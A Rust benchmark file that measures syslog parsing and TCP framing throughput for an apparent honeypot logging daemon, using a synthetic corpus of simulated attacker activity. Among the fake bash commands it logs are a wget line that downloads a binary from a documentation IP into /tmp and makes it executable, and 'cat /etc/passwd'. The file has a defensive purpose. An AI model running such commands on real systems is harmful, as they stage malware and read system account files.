//! Parser throughput over a realistic mixed corpus (lines/s), and the listener's framing of
//! that corpus as one newline-framed TCP stream read 16 KiB at a time.
//!
//! Run: `cargo bench --bench syslog`

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use decnetd::domain::syslog::framing::FrameDecoder;
use decnetd::domain::syslog::sd::render_relay_element;
use decnetd::domain::syslog::{extract, parse_line, ExtractConfig, ObservationBatch};

const DECKIES: [&str; 6] = [
    "web-decky-03",
    "intranet-02",
    "mail-01",
    "db-07",
    "files-02",
    "vpn-01",
];
const USERS: [&str; 5] = ["root", "admin", "oracle", "ubuntu", "test"];
const UAS: [&str; 5] = [
    "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
];

fn ip(rng: &mut StdRng) -> String {
    format!(
        "{}.{}.{}.{}",
        rng.gen_range(1..224),
        rng.gen::<u8>(),
        rng.gen::<u8>(),
        rng.gen_range(1..255)
    )
}

fn ts(rng: &mut StdRng) -> String {
    format!(
        "2026-05-14T{:02}:{:02}:{:02}.{:06}+00:00",
        rng.gen_range(0..24),
        rng.gen_range(0..60),
        rng.gen_range(0..60),
        rng.gen_range(0..1_000_000)
    )
}

fn b64(rng: &mut StdRng) -> (String, String) {
    use base64::Engine;
    let len = rng.gen_range(4..16);
    let bytes: Vec<u8> = (0..len).map(|_| rng.gen_range(0x21..0x7f)).collect();
    let printable = String::from_utf8_lossy(&bytes).into_owned();
    (
        printable,
        base64::engine::general_purpose::STANDARD.encode(&bytes),
    )
}

/// One line of a realistic mix: auth attempts, HTTP requests with headers,
/// fingerprints, prober results, wrapped bash commands, SMTP chatter, native sshd.
fn line(rng: &mut StdRng) -> String {
    let decky = DECKIES[rng.gen_range(0..DECKIES.len())];
    let t = ts(rng);
    let src = ip(rng);
    match rng.gen_range(0..100) {
        0..=24 => {
            let u = USERS[rng.gen_range(0..USERS.len())];
            let (p, b) = b64(rng);
            let sd = render_relay_element([
                ("username", u),
                ("principal", u),
                ("secret_printable", p.as_str()),
                ("secret_b64", b.as_str()),
                ("src_ip", src.as_str()),
            ]);
            format!("<134>1 {t} {decky} auth-helper - auth_attempt {sd}")
        }
        25..=44 => {
            let ua = UAS[rng.gen_range(0..UAS.len())];
            let headers = format!(
                r#"{{"Host": "10.20.0.12", "User-Agent": "{ua}", "Accept": "*/*", "X-Forwarded-For": "{}"}}"#,
                ip(rng)
            );
            let path = format!("/wp-admin/{}.php", rng.gen_range(0..500));
            let sd = render_relay_element([
                ("method", "GET"),
                ("path", path.as_str()),
                ("remote_addr", src.as_str()),
                ("headers", headers.as_str()),
                ("body", ""),
            ]);
            format!("<134>1 {t} {decky} http - request {sd}")
        }
        45..=54 => {
            let port = rng.gen_range(1024..65535).to_string();
            let ra = format!("{src}:{port}");
            let sd = render_relay_element([
                ("remote_addr", ra.as_str()),
                ("proto", "h1"),
                ("method", "GET"),
                ("path", "/"),
                ("ja4h", "ge11nn0000_04_3f2a1c9b8d7e_000000000000"),
                ("headers_ordered", r#"["host", "user-agent"]"#),
            ]);
            format!("<134>1 {t} {decky} http - http_request_fingerprint {sd}")
        }
        55..=64 => {
            let sd = render_relay_element([
                ("src_ip", src.as_str()),
                ("src_port", "40130"),
                ("dst_ip", "10.20.0.12"),
                ("dst_port", "443"),
                ("ja3", "920a9eebe236a8205f28dd68763c3d0f"),
                ("ja4", "t13d1516h2_8daaf6152771_02713d6af862"),
                ("tls_version", "TLS 1.3"),
                ("sni", "intranet.corp.example"),
                ("alpn", "h2,http/1.1"),
            ]);
            format!("<134>1 {t} {decky} sniffer - tls_client_hello {sd}")
        }
        65..=71 => {
            let sd = render_relay_element([
                ("target_ip", src.as_str()),
                ("target_port", "8443"),
                (
                    "jarm_hash",
                    "2ad2ad0002ad2ad22c2ad2ad2ad2ad2eac92ec34bcc0cf7520e97547f83e81",
                ),
            ]);
            format!("<134>1 {t} decnet-prober prober - jarm_fingerprint {sd} JARM {src}:8443 = 2ad2ad0002ad2ad22c2ad2ad2ad2ad2eac92ec34bcc0cf7520e97547f83e81")
        }
        72..=83 => {
            let cmd = [
                "id",
                "uname -a",
                "wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x",
                "cat /etc/passwd",
            ][rng.gen_range(0..4)];
            let t2 = ts(rng);
            format!("<14>1 {t} {decky} 1 - - -  {t2} {decky} bash - command [timeQuality tzKnown=\"1\" isSynced=\"1\"] CMD uid=0 user=root src={src} pwd=/tmp cmd={cmd}")
        }
        84..=95 => {
            let ev = ["connect", "ehlo", "mail_from", "rcpt_to", "disconnect"][rng.gen_range(0..5)];
            let sd = render_relay_element([
                ("src_ip", src.as_str()),
                ("src_port", "50022"),
                ("note", "a \"quoted\" ] bracket"),
            ]);
            format!("<134>1 {t} mail-01 smtp - {ev} {sd}")
        }
        _ => format!(
            "<38>1 {t} {decky} sshd 940 - - Failed password for root from {src} port 51822 ssh2"
        ),
    }
}

fn corpus(n: usize) -> Vec<String> {
    let mut rng = StdRng::seed_from_u64(0x5eed);
    (0..n).map(|_| line(&mut rng)).collect()
}

fn bench(c: &mut Criterion) {
    let lines = corpus(10_000);
    assert!(
        lines.iter().all(|l| parse_line(l).is_ok()),
        "corpus must parse"
    );
    let cfg = ExtractConfig::default();
    let mut g = c.benchmark_group("syslog");
    g.throughput(Throughput::Elements(lines.len() as u64));
    g.sample_size(20);
    g.bench_function("parse_line", |b| {
        b.iter(|| {
            for l in &lines {
                let _ = black_box(parse_line(black_box(l)));
            }
        })
    });
    g.bench_function("parse_extract_observe", |b| {
        b.iter(|| {
            let mut batch = ObservationBatch::new();
            for l in &lines {
                if let Ok(r) = parse_line(l) {
                    black_box(extract(&r, &cfg));
                    let _ = batch.observe(&r);
                }
            }
            black_box(batch.into_deltas())
        })
    });
    // The listener reads through one 16 KiB buffer and takes every frame out of it.
    let wire: Vec<u8> = lines
        .iter()
        .flat_map(|l| [l.as_bytes(), b"\n"].concat())
        .collect();
    g.bench_function("frame_newline_stream_16k_reads", |b| {
        b.iter(|| {
            let mut d = FrameDecoder::new(64 * 1024);
            let mut frames = 0usize;
            for read in wire.chunks(16 * 1024) {
                d.push(read);
                while let Some(f) = d.next_frame() {
                    black_box(&f);
                    frames += 1;
                }
            }
            d.finish();
            while d.next_frame().is_some() {
                frames += 1;
            }
            assert_eq!(frames, lines.len());
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
